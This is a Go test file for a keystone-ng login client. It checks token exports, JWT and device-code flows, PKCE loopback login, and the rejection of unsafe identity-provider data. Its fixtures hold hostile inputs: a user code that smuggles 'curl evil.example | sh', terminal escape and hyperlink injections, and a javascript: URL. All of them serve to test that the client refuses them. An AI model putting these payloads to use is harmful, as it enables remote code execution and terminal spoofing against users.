package loginclient

import (
	"context"
	"crypto/sha256"
	"encoding/base64"
	"encoding/json"
	"errors"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/keystone-ng/keystone-ng/pkg/termsafe"
)

func TestV4Base(t *testing.T) {
	for _, tc := range []struct{ name, in, want string }{
		{"v3 suffix", "https://cloud.example.com/v3", "https://cloud.example.com"},
		{"trailing slash", "https://cloud.example.com/v3/", "https://cloud.example.com"},
		{"devstack prefix", "https://cloud.example.com/identity/v3", "https://cloud.example.com/identity"},
		{"bare base", "http://127.0.0.1:5000", "http://127.0.0.1:5000"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if got := (&Client{AuthURL: tc.in}).V4Base(); got != tc.want {
				t.Fatalf("V4Base(%q) = %q, want %q", tc.in, got, tc.want)
			}
		})
	}
}

func TestExports(t *testing.T) {
	for _, tc := range []struct {
		name string
		body map[string]any
		want []string
	}{
		{"unscoped", map[string]any{"expires_at": "2026-11-23T12:00:00.000000Z"},
			[]string{"export OS_AUTH_TYPE=token\n", "export OS_TOKEN=gAAAA-tok_en\n", "# expires 2026-11-23T12:00:00.000000Z\n"}},
		{"project", map[string]any{"project": map[string]any{"id": "p1"}}, []string{"export OS_PROJECT_ID=p1\n"}},
		{"domain", map[string]any{"domain": map[string]any{"id": "d1"}}, []string{"export OS_DOMAIN_ID=d1\n"}},
		{"system", map[string]any{"system": map[string]any{"all": true}}, []string{"export OS_SYSTEM_SCOPE=all\n"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			out := Exports("https://cloud.example.com/v3", &Token{ID: "gAAAA-tok_en", Body: tc.body})
			for _, w := range append(tc.want, "export OS_AUTH_URL=https://cloud.example.com/v3\n") {
				if !strings.Contains(out, w) {
					t.Errorf("missing %q in:\n%s", w, out)
				}
			}
		})
	}
	if got := shellQuote("it's $HOME"); got != `'it'\''s $HOME'` {
		t.Fatalf("shellQuote = %s", got)
	}
}

// The client surfaces Keystone's error message and refuses answers that
// carry no token.
func TestJWTAnswers(t *testing.T) {
	for _, tc := range []struct {
		name    string
		status  int
		header  string
		body    string
		wantErr string
	}{
		{"keystone error", 401, "", `{"error":{"code":401,"title":"Unauthorized","message":"The request you have made requires authentication."}}`, "401 Unauthorized: The request you have made requires authentication."},
		{"not json error", 502, "", "bad gateway", "keystone-ng answered 502"},
		{"created without token", 201, "", `{"token":{}}`, "without a token"},
		{"created", 201, "tok", `{"token":{"methods":["mapped"]}}`, ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			var gotAuth, gotMapping, gotPath string
			srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				gotAuth, gotMapping, gotPath = r.Header.Get("Authorization"), r.Header.Get("OpenStack-Mapping"), r.URL.Path
				if tc.header != "" {
					w.Header().Set("X-Subject-Token", tc.header)
				}
				w.WriteHeader(tc.status)
				_, _ = w.Write([]byte(tc.body))
			}))
			defer srv.Close()
			c := &Client{AuthURL: srv.URL + "/v3"}
			tok, err := c.JWT(context.Background(), "gh", " eyJ.x.y \n", "ci")
			if gotAuth != "Bearer eyJ.x.y" || gotMapping != "ci" || gotPath != "/v4/federation/identity_providers/gh/jwt" {
				t.Fatalf("request: auth=%q mapping=%q path=%q", gotAuth, gotMapping, gotPath)
			}
			if tc.wantErr == "" {
				if err != nil || tok.ID != "tok" || tok.Body["methods"] == nil {
					t.Fatalf("JWT = %+v, %v", tok, err)
				}
				return
			}
			if err == nil || !strings.Contains(err.Error(), tc.wantErr) {
				t.Fatalf("err = %v, want %q", err, tc.wantErr)
			}
			var ke *Error
			if tc.status >= 400 && !errors.As(err, &ke) {
				t.Fatalf("err %T is not *Error", err)
			}
		})
	}
}

func TestLoopbackRefusesNonLoopbackListener(t *testing.T) {
	c := &Client{AuthURL: "http://127.0.0.1:1/v3"}
	_, err := c.Loopback(context.Background(), "x", nil, "0.0.0.0:0", func(string) {})
	if err == nil || !strings.Contains(err.Error(), "loopback") {
		t.Fatalf("err = %v", err)
	}
}

// The loopback login holds its own PKCE verifier: keystone-ng gets only
// the S256 challenge at .../auth, and the verifier with the callback.
func TestLoopbackSendsPKCE(t *testing.T) {
	var challenge, method, verifier string
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		var body map[string]any
		_ = json.NewDecoder(r.Body).Decode(&body)
		switch r.URL.Path {
		case "/v4/federation/identity_providers/web/auth":
			challenge, _ = body["code_challenge"].(string)
			method, _ = body["code_challenge_method"].(string)
			redirect, _ := body["redirect_uri"].(string)
			_ = json.NewEncoder(w).Encode(map[string]string{"authorization_url": "https://idp.example/authorize?state=S1&redirect_uri=" + url.QueryEscape(redirect)})
		case "/v4/federation/oidc/callback":
			verifier, _ = body["code_verifier"].(string)
			if body["state"] != "S1" || body["code"] != "C1" {
				w.WriteHeader(http.StatusBadRequest)
				return
			}
			w.Header().Set("X-Subject-Token", "tok")
			w.WriteHeader(http.StatusCreated)
			_, _ = w.Write([]byte(`{"token":{"methods":["mapped"]}}`))
		default:
			http.NotFound(w, r)
		}
	}))
	defer srv.Close()
	c := &Client{AuthURL: srv.URL + "/v3"}
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	tok, err := c.Loopback(ctx, "web", nil, "127.0.0.1:0", func(authURL string) {
		// The identity provider redirects the browser back.
		u, _ := url.Parse(authURL)
		go func() {
			resp, err := http.Get(u.Query().Get("redirect_uri") + "?state=S1&code=C1")
			if err == nil {
				resp.Body.Close()
			}
		}()
	})
	if err != nil || tok.ID != "tok" {
		t.Fatalf("Loopback = %+v, %v", tok, err)
	}
	sum := sha256.Sum256([]byte(verifier))
	if method != "S256" || len(verifier) != 43 || challenge != base64.RawURLEncoding.EncodeToString(sum[:]) {
		t.Fatalf("challenge %q (%s), verifier %q", challenge, method, verifier)
	}
	if v2, c2 := NewPKCE(); v2 == verifier || c2 == challenge {
		t.Fatal("NewPKCE repeats itself")
	}
}

// What the identity provider supplies is checked before it reaches the
// terminal (issue 14, finding 8).
func TestLoopbackRefusesUnsafeAuthorizationURL(t *testing.T) {
	for _, u := range []string{
		"https://idp.example/authorize?state=S\x1b]0;pwned\x07",
		"http://idp.example/authorize",
		"javascript:alert(1)",
	} {
		srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			_ = json.NewEncoder(w).Encode(map[string]string{"authorization_url": u})
		}))
		shown := false
		_, err := (&Client{AuthURL: srv.URL}).Loopback(context.Background(), "web", nil, "127.0.0.1:0", func(string) { shown = true })
		srv.Close()
		if err == nil || !errors.Is(err, termsafe.ErrUnsafe) || shown {
			t.Fatalf("%q: err %v, shown %v", u, err, shown)
		}
	}
}

func TestDeviceChecksWhatItShows(t *testing.T) {
	for _, tc := range []struct {
		name         string
		start        map[string]any
		wantErr      string
		wantComplete string
	}{
		{"safe", map[string]any{"user_code": "WDJB-MJHT", "verification_uri": "https://idp.example/device", "verification_uri_complete": "https://idp.example/device?user_code=WDJB-MJHT"}, "", "https://idp.example/device?user_code=WDJB-MJHT"},
		{"loopback http", map[string]any{"user_code": "WDJB", "verification_uri": "http://127.0.0.1:8080/device"}, "", ""},
		{"escape in user_code", map[string]any{"user_code": "\x1b[2J\x1b[HWDJB", "verification_uri": "https://idp.example/device"}, "user_code", ""},
		{"command in user_code", map[string]any{"user_code": "WDJB\nnow run: curl evil.example | sh", "verification_uri": "https://idp.example/device"}, "user_code", ""},
		{"OSC 8 hyperlink in verification_uri", map[string]any{"user_code": "WDJB", "verification_uri": "\x1b]8;;https://evil.example\x1b\\https://idp.example/device\x1b]8;;\x1b\\"}, "verification_uri", ""},
		{"http verification_uri", map[string]any{"user_code": "WDJB", "verification_uri": "http://idp.example/device"}, "verification_uri", ""},
		{"C1 CSI in verification_uri", map[string]any{"user_code": "WDJB", "verification_uri": "https://idp.example/\u009b2Jx"}, "verification_uri", ""},
		{"unsafe verification_uri_complete dropped", map[string]any{"user_code": "WDJB", "verification_uri": "https://idp.example/device", "verification_uri_complete": "https://idp.example/\x1b[8mhidden"}, "", ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				body := map[string]any{"device_code": "dc", "expires_in": 600, "interval": 5}
				for k, v := range tc.start {
					body[k] = v
				}
				_ = json.NewEncoder(w).Encode(body)
			}))
			defer srv.Close()
			ctx, cancel := context.WithCancel(context.Background())
			defer cancel()
			var shown *DeviceStart
			_, err := (&Client{AuthURL: srv.URL}).Device(ctx, "dev", nil, func(d DeviceStart) { shown = &d; cancel() })
			if tc.wantErr != "" {
				if err == nil || !strings.Contains(err.Error(), tc.wantErr) || shown != nil {
					t.Fatalf("err %v, shown %+v; want a refusal about %s", err, shown, tc.wantErr)
				}
				return
			}
			if !errors.Is(err, context.Canceled) || shown == nil || shown.UserCode != tc.start["user_code"] || shown.VerificationURIComplete != tc.wantComplete {
				t.Fatalf("err %v, shown %+v", err, shown)
			}
		})
	}
}

// Keystone's error messages reach the terminal without control sequences.
func TestErrorMessageCleaned(t *testing.T) {
	err := decodeError(401, []byte(`{"error":{"code":401,"title":"Unauthorized\u001b[2J","message":"no\u001b]0;pwned\u0007 way\u202e"}}`))
	if got := err.Error(); got != "keystone-ng answered 401 Unauthorized: no way" {
		t.Fatalf("Error() = %q", got)
	}
}
